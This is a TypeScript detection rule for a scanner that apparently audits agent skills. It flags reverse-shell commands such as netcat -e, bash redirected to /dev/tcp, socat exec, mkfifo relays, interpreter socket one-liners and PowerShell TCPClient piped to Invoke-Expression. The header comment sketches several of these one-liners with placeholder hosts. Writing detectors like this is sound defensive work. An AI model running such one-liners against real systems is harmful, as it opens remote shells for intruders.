// Reverse-shell one-liners as commands: `nc -e /bin/sh`, `bash -i >& /dev/tcp/h/p 0>&1`,
// `socat exec:…`, `mkfifo f; sh <f | nc h p >f`, `sh | nc`, the Perl/PHP/Ruby/Lua/Tcl socket
// one-liners (as `-e` arguments or as whole script files, which the script analyzer reports as the
// interpreter running its code), gawk's `/inet/tcp` coprocess feeding commands to a shell, and a
// PowerShell TCPClient whose received bytes go to Invoke-Expression.
// `nc -z host 443` (port check) and `cat < /dev/tcp/h/80` are not shells.

import type { Rule } from '../types.ts';
import { commandLine, hasFlag, programOf, type CommandFact } from './common/commands.ts';
import { weigh } from './common/context.ts';

const shells = /^(?:ba|z|k|da|tc|c|fi)?sh$|^(?:cmd|powershell|pwsh)$/;
const netcats = /^(?:nc|ncat|netcat|telnet)$/;
const oneLiner = /fsockopen|Socket::|TCPSocket\.(?:open|new)|IO::Socket|socket\(.*connect\(|socket\.connect\(|\bsocket\s+-?\w*\s*\S+\s+\d+/i;
/** What the interpreter does with what it reads from the socket: run it. */
const runsInput = /\/bin\/(?:ba)?sh|\bexec\b|\bsystem\s*\(|\bspawn|\bpopen\b|\bIO\.popen|`\$|%x\{|\bos\.execute|\bio\.popen|\bshell_exec|\bpassthru|\bproc_open/;
const interpreters = /^(?:perl|php|ruby|python[\d.]*|lua[\d.]*|luajit|tclsh[\d.]*|awk|gawk)$/;
/** gawk's network special file used as a coprocess (`|&`) together with command execution. */
const gawkNet = /\/inet[46]?\/tcp\/\d+\/[^/\s"]+\/\d+/;
const gawkRuns = /\|&\s*getline|\bsystem\s*\(/;

function shape(cmd: CommandFact, fifoLines: ReadonlySet<string>): string | undefined {
  const program = programOf(cmd);
  if (netcats.test(program)) {
    if (hasFlag(cmd, 'e', '--exec') || hasFlag(cmd, 'c', '--sh-exec')) return `${program} -e`;
    if ([cmd.pipedFrom, ...(cmd.pipedTo ?? [])].some((p) => p && shells.test(p.replace(/^.*\//, '')))) return `shell piped through ${program}`;
    if (fifoLines.has(`${cmd.file}:${cmd.line}`)) return `mkfifo with ${program}`;
  }
  // A shell whose output goes to a socket; `exec 3<>/dev/tcp/h/80` alone is bash's HTTP idiom.
  if (shells.test(program) && cmd.redirects?.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target) && r.op.includes('>'))) {
    return 'shell redirected to /dev/tcp';
  }
  if (program === 'socat' && /\b(?:exec|system):/i.test(commandLine(cmd)) && /\btcp[46]?(?:-connect|-listen)?:/i.test(commandLine(cmd))) return 'socat exec';
  if (interpreters.test(program)) {
    const line = commandLine(cmd);
    if (oneLiner.test(line) && runsInput.test(line)) return `${program} socket one-liner`;
    if (/awk$/.test(program) && gawkNet.test(line) && gawkRuns.test(line)) return 'gawk /inet/tcp coprocess';
  }
  return undefined;
}

const psTcpClient = /^(?:system\.)?net\.sockets\.tcpclient$/i;
const psInvoke = /^(?:invoke-expression|iex)$/;

/** PowerShell files that open a TCPClient and run what arrives: Invoke-Expression on a variable. */
function powershellShells(commands: readonly CommandFact[]): CommandFact[] {
  const clients = new Set(commands.filter((c) => programOf(c) === 'new-object' && c.args.some((a) => psTcpClient.test(a.replace(/\(.*$/, '')))).map((c) => c.file));
  return commands.filter((c) => clients.has(c.file) && psInvoke.test(programOf(c)) && /^\$/.test(c.args[0] ?? ''));
}

export const reverseShellCommand: Rule = {
  meta: {
    id: 'reverse-shell-command',
    category: 'reverse-shell',
    severity: 'critical',
    title: 'Reverse shell command',
    description: 'The skill runs a classic reverse-shell one-liner (netcat -e, /dev/tcp redirection, socat exec, mkfifo relay, interpreter socket one-liners).',
    references: ['https://attack.mitre.org/techniques/T1059/004/'],
    messages: { shell: 'Opens a reverse shell ({{how}}).' },
  },
  check(facts, context) {
    const fifoLines = new Set(facts.of('command').filter((c) => programOf(c) === 'mkfifo').map((c) => `${c.file}:${c.line}`));
    for (const cmd of facts.of('command')) {
      const how = shape(cmd, fifoLines);
      if (how) context.report({ messageId: 'shell', fact: cmd, severity: weigh('critical', cmd, context.skill), data: { how } });
    }
    for (const cmd of powershellShells(facts.of('command'))) {
      context.report({ messageId: 'shell', fact: cmd, severity: weigh('critical', cmd, context.skill), data: { how: 'PowerShell TCPClient into Invoke-Expression' } });
    }
  },
};
